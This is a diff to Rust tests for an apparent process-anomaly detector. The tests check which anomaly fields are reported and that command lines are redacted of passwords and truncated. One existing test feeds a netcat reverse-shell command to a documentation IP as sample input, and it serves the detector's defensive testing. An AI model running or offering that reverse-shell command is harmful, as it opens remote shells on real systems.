@@ -23,17 +23,7 @@ fn while_it_learns_there_is_no_score_and_the_level_says_so() {
     let directory = tempfile::tempdir().expect("a directory");
     let mut host = Host::new(&config(directory.path(), 1_000));
     let event = host.event(exec(100, 1, "/usr/bin/id").event());
-    for absent in [
-        "score",
-        "score_permille",
-        "distance",
-        "smoothed",
-        "novel",
-        "first",
-        "reason",
-        "nearest",
-        "proc_name",
-    ] {
+    for absent in ["score", "score_permille", "distance", "smoothed", "novel", "first", "reason", "nearest"] {
         assert_eq!(host.field(&event, &format!("anomaly.{absent}")), None, "{absent}");
     }
     assert_eq!(host.field(&event, "anomaly.level").as_deref(), Some("learning"));
@@ -71,6 +61,19 @@ fn what_is_learned_scores_nothing_and_what_is_new_says_why() {
     // The next of its alert group is not the first any more.
     let event = host.event(exec(202, 1, "/usr/bin/nc -e /bin/sh 203.0.113.7 4445").event());
     assert_eq!(host.field(&event, "anomaly.first").as_deref(), Some("false"));
+}
+
+#[test]
+fn what_ran_is_told_without_its_secrets() {
+    let (_directory, mut host) = host();
+    let long = format!("/usr/bin/curl --password hunter2 -o {}", "x".repeat(1_000));
+    let event = host.event(Exec { uid: 33, ..exec(200, 100, &long) }.event());
+    for (field, value) in [("name", "curl"), ("parent", "find"), ("pid", "200"), ("uid", "33")] {
+        assert_eq!(host.field(&event, &format!("anomaly.proc_{field}")).as_deref(), Some(value), "{field}");
+    }
+    let line = host.field(&event, "anomaly.proc_cmdline").expect("a command line");
+    assert!(line.starts_with("/usr/bin/curl --password ") && !line.contains("hunter2"), "{line}");
+    assert!(line.len() <= 200, "{line}");
 }
 
 #[test]
